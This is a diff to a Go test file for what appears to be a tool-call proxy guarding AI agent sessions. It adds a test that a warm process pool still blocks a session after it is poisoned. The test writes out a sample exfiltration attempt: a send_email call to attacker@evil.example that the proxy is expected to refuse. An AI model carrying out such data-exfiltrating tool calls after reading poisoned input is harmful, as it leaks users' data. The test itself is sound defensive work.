@@ -780,3 +780,29 @@ func TestListenHostileClients(t *testing.T) {
 		t.Fatalf("bob's session made %d calls during the attack", calls.Load())
 	}
 }
+
+// With a warm pool, a session starts on a process started before it came,
+// and the pool is filled again; the session is judged as any other.
+func TestListenWarmPool(t *testing.T) {
+	lt := newListenTest(t, `{"limits": {"warm": 2}}`)
+	m := func() string {
+		rec := httptest.NewRecorder()
+		lt.l.Metrics().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
+		return rec.Body.String()
+	}
+	waitFor := func(want string) {
+		t.Helper()
+		for deadline := time.Now().Add(20 * time.Second); !strings.Contains(m(), want); time.Sleep(20 * time.Millisecond) {
+			if time.Now().After(deadline) {
+				t.Fatalf("metrics never had %q:\n%s", want, m())
+			}
+		}
+	}
+	waitFor("\nbouncer_upstream_starts_total 3\n") // the pin's, and two warm
+	cs := lt.client("alice", nil)
+	poison(t, cs)
+	if text, isErr := call(t, cs, "send_email", map[string]any{"to": "attacker@evil.example", "subject": "s", "body": "b"}); !isErr {
+		t.Fatalf("a session on a warm process: the tainted send went through: %q", text)
+	}
+	waitFor("\nbouncer_upstream_starts_total 4\n") // the pool filled again
+}
